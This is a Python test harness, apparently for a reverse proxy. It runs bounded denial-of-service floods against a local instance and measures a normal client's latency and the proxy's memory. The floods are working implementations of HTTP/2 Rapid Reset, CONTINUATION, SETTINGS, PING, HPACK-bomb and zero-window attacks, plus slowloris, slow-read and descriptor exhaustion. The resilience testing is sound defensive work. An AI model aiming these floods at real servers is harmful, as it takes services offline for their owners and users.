"""Hostile clients, and a good one beside them. Each flood is a process of its own, bounded in time and connections.

    python3 floods.py attack NAME PORT SECONDS      prints what it did, as JSON
    python3 floods.py good PORT SECONDS             prints the latencies of a client that asks 100 times a second
    python3 floods.py serve HANGS LARGE             the services that attackers ask, on these ports, until it is ended
"""
import errno
import json
import pathlib
import resource
import select
import socket
import struct
import subprocess
import sys
import threading
import time

HERE = pathlib.Path(__file__).resolve().parent
BUDGET = 256 << 20  # limits.memory by default
CONFIG = """
version: 1
listeners:
  - address: "@listen@"
    routes:
      - match: {path: {prefix: /hangs}}
        upstream: hangs
      - match: {path: {prefix: /large}}
        upstream: large
      - upstream: app
upstreams:
  app: {endpoints: ["@app@"], filters: []}
  hangs: {endpoints: ["@hangs@"], filters: []}
  large: {endpoints: ["@large@"], filters: []}
status: "@status@"
"""

# HTTP/2 by hand: a client of a library would not send this. RFC 9113 section 4.1.
DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def get(path):
    """A header block of GET `path`, without Huffman. RFC 7541 appendix A: 2, 6, name 1, name 4."""
    return b"\x82\x86\x01\x04test" + b"\x04" + bytes([len(path)]) + path.encode()


class Connection:
    """Sends what the other side takes, reads what it says, and knows when it has had enough."""

    def __init__(self, port, receive_buffer=None):
        self.socket = socket.socket()
        self.socket.settimeout(5)
        if receive_buffer:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        self.socket.connect(("127.0.0.1", port))
        self.socket.setblocking(False)
        self.is_open = True
        self.left = b""
        self.stream = -1

    def send(self, data=b"", reads=True):
        """Keeps for later what is not taken now."""
        self.left += data
        if reads:
            self.read()
        while self.is_open and self.left:
            try:
                self.left = self.left[self.socket.send(self.left):]
            except BlockingIOError:
                return self
            except OSError:
                self.close()
        return self

    def read(self, most=1 << 16):
        while self.is_open:
            try:
                if not self.socket.recv(most):
                    self.close()
            except BlockingIOError:
                return
            except OSError:
                self.close()

    def next_stream(self):
        self.stream += 2
        return self.stream

    def close(self):
        self.is_open = False
        self.socket.close()


def h2(port, settings=b"", **options):
    return Connection(port, **options).send(PREFACE + frame(SETTINGS, 0, 0, settings))


class Attack:
    """Up to `count` connections; `begin` makes one, `go_on` is called again and again. Closed ones are made anew."""
    count = 20
    pause = 0.0  # between two rounds
    reads = True  # what comes back

    def __init__(self, port):
        self.port = port
        self.made = self.refused = 0

    def begin(self):
        return Connection(self.port)

    def go_on(self, connection):
        raise NotImplementedError

    def run(self, seconds):
        connections, end = [], time.monotonic() + seconds
        while time.monotonic() < end:
            alive = []
            for connection in connections:
                if not connection.left:
                    self.go_on(connection)
                connection.send(reads=self.reads)
                if connection.is_open:
                    alive.append(connection)
            connections = alive
            try:
                while len(connections) < self.count and time.monotonic() < end:
                    connections.append(self.begin())
                    self.made += 1
            except OSError as error:
                self.refused += 1
                if error.errno == errno.EMFILE:
                    raise
            if self.pause:
                time.sleep(self.pause)
            elif all(connection.left for connection in connections):
                select.select([], [connection.socket for connection in connections if connection.is_open], [], 0.1)
        for connection in connections:
            connection.close()


class RapidReset(Attack):
    """CVE-2023-44487: requests that are cancelled at once, at a service that does not answer."""
    def begin(self):
        return h2(self.port)

    def go_on(self, connection):
        batch = b""
        for _ in range(50):
            stream = connection.next_stream()
            batch += frame(HEADERS, END_HEADERS | END_STREAM, stream, get("/hangs")) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
        connection.send(batch)


class Continuation(RapidReset):
    """CVE-2024-27316: a header block that never ends."""
    def go_on(self, connection):
        if connection.stream < 0:
            connection.send(frame(HEADERS, END_STREAM, connection.next_stream(), get("/")))
        connection.send(frame(CONTINUATION, 0, connection.stream, b"\x00\x01a\x01b" * 200) * 20)


class Settings(RapidReset):
    """CVE-2019-9515, without reading the acknowledgements."""
    reads = False

    def go_on(self, connection):
        connection.send(frame(SETTINGS, 0, 0, b"\0\4\0\0\xff\xff") * 200, reads=False)


class Ping(RapidReset):
    """CVE-2019-9512, without reading the answers."""
    reads = False

    def go_on(self, connection):
        connection.send(frame(PING, 0, 0, b"12345678") * 200, reads=False)


class HpackBomb(RapidReset):
    """CVE-2016-1544: a large field in the dynamic table, then thousands of references to it, a byte each."""
    def go_on(self, connection):
        size = 3900
        large = b"\x40\x01a\x7f" + bytes([0x80 | (size - 127) % 128, (size - 127) // 128]) + b"x" * size
        block = get("/") + (large if connection.stream < 0 else b"") + b"\xbe" * 10_000
        connection.send(frame(HEADERS, END_HEADERS | END_STREAM, connection.next_stream(), block))


class ZeroWindow(RapidReset):
    """CVE-2019-9517: asks for much and lets nothing come."""
    count, pause = 100, 0.05

    def begin(self):
        return h2(self.port, b"\0\4\0\0\0\0")

    def go_on(self, connection):
        if connection.stream < 100:
            connection.send(frame(HEADERS, END_HEADERS | END_STREAM, connection.next_stream(), get("/large")))


class Slowloris(Attack):
    """Heads that never end, a byte at a time."""
    count, pause = 800, 0.2

    def go_on(self, connection):
        connection.send(b"x" if connection.stream > 0 else b"GET / HTTP/1.1\r\nHost: test\r\nX-A: ")
        connection.stream = 1


class SlowRead(Attack):
    """Asks for 1 MiB and reads a little now and then."""
    count, pause, reads = 400, 0.2, False

    def begin(self):
        return Connection(self.port, receive_buffer=4096).send(b"GET /large HTTP/1.1\r\nHost: test\r\n\r\n", reads=False)

    def go_on(self, connection):
        try:
            if not connection.socket.recv(16):
                connection.close()
        except BlockingIOError:
            pass
        except OSError:
            connection.close()


class TrickledBody(Attack):
    """Bodies a byte at a time."""
    count, pause = 400, 0.2

    def begin(self):
        return Connection(self.port).send(b"POST /hangs HTTP/1.1\r\nHost: test\r\nContent-Length: 1000000\r\n\r\n")

    def go_on(self, connection):
        connection.send(b"x")


class OneByteChunks(Attack):
    """Bodies in chunks of a byte, as fast as they are taken."""
    def begin(self):
        return Connection(self.port).send(b"POST /hangs HTTP/1.1\r\nHost: test\r\nTransfer-Encoding: chunked\r\n\r\n")

    def go_on(self, connection):
        connection.send(b"1\r\nx\r\n" * 2000)


class Descriptors(Attack):
    """More connections than the proxy may have descriptors (the caller limits them)."""
    count, pause = 800, 0.1

    def go_on(self, connection):
        connection.send()


ATTACKS = {
    "rapid reset": RapidReset, "CONTINUATION": Continuation, "SETTINGS": Settings, "PING": Ping, "HPACK bomb": HpackBomb,
    "zero window": ZeroWindow, "slowloris": Slowloris, "slow read": SlowRead, "trickled body": TrickledBody,
    "1-byte chunks": OneByteChunks, "descriptors": Descriptors,
}


def good_client(port, seconds):
    """Asks every 10 ms on a kept connection. (latencies in ms, how many requests got no 200)"""
    sys.path.insert(0, str(HERE.parent))
    from support.raw import Client
    latencies, failed, client = [], 0, Client(port, timeout=30)
    client.get("/")
    print("connected", flush=True)
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        begun = time.monotonic()
        try:
            client = client or Client(port, timeout=30)
            failed += client.get("/").status != 200
        except (OSError, EOFError):
            failed += 1
            client = None
        took = time.monotonic() - begun
        latencies.append(took * 1000)
        time.sleep(max(0.0, 0.01 - took))
    return latencies, failed


class Measured:
    """What the good client and the proxy's memory were like beside one flood."""

    def __init__(self, name, attacked, good, start, peak):
        self.name, self.attacked = name, attacked
        latencies = sorted(good["latencies"])
        self.asked, self.failed = len(latencies), good["failed"]
        self.median, self.p99, self.longest = (latencies[int(share * (len(latencies) - 1))] for share in (0.5, 0.99, 1))
        self.start, self.peak = start, peak


def serve(hangs, large):
    """On `hangs` nothing is answered, on `large` every request by 1 MiB, whatever it was."""
    content = b"HTTP/1.1 200 OK\r\nContent-Length: 1048576\r\n\r\n" + b"x" * (1 << 20)

    def talk(connection, answer):
        try:
            while connection.recv(1 << 16):
                connection.sendall(answer)
        except OSError:
            pass
        connection.close()

    def listen(port, answer):
        listener = socket.create_server(("127.0.0.1", port), backlog=1024)
        while True:
            threading.Thread(target=talk, args=(listener.accept()[0], answer), daemon=True).start()
    threading.Thread(target=listen, args=(hangs, b""), daemon=True).start()
    listen(large, content)


def measure(name, seconds, descriptors=300):
    """One flood against a fresh proxy with one worker, and the good client beside it, whose service is its own."""
    from support import raw
    from support.outrigger import Outrigger
    from support.ports import free_port
    from support.wait import until

    def part(*arguments):
        return subprocess.Popen([sys.executable, __file__, *map(str, arguments)], stdout=subprocess.PIPE)

    def is_up(port):
        with socket.socket() as probe:
            return probe.connect_ex(("127.0.0.1", port)) == 0
    ports = free_port(), free_port()
    services = part("serve", *ports)
    try:
        until(lambda: all(map(is_up, ports)), "the services")
        hangs, large = (f"127.0.0.1:{port}" for port in ports)
        with raw.Peer.answering() as app, Outrigger(CONFIG, app=app.address, hangs=hangs, large=large,
                                                    wait_for=("listen", "status")) as proxy:
            if name == "descriptors":
                resource.prlimit(proxy.process.pid, resource.RLIMIT_NOFILE, (descriptors, descriptors))
            start = peak = proxy.resident_bytes()
            good = part("good", proxy.port(), seconds)
            good.stdout.readline()
            flood = part("attack", name, proxy.port(), seconds)
            while good.poll() is None:
                peak = max(peak, proxy.resident_bytes())
                time.sleep(0.02)
            told = [json.loads(process.communicate(timeout=60)[0]) for process in (good, flood)]
            until(lambda: raw.Client(proxy.port()).get("/").status == 200, "an answer after the flood")
    finally:
        services.kill()
        services.communicate()
    return Measured(name, told[1], told[0], start, peak)


def main():
    kind, *arguments = sys.argv[1:]
    if kind == "serve":
        serve(*map(int, arguments))
    elif kind == "good":
        latencies, failed = good_client(int(arguments[0]), float(arguments[1]))
        print(json.dumps({"latencies": latencies, "failed": failed}))
    else:
        attack = ATTACKS[arguments[0]](int(arguments[1]))
        attack.run(float(arguments[2]))
        print(json.dumps({"connections": attack.made, "refused": attack.refused}))


if __name__ == "__main__":
    main()
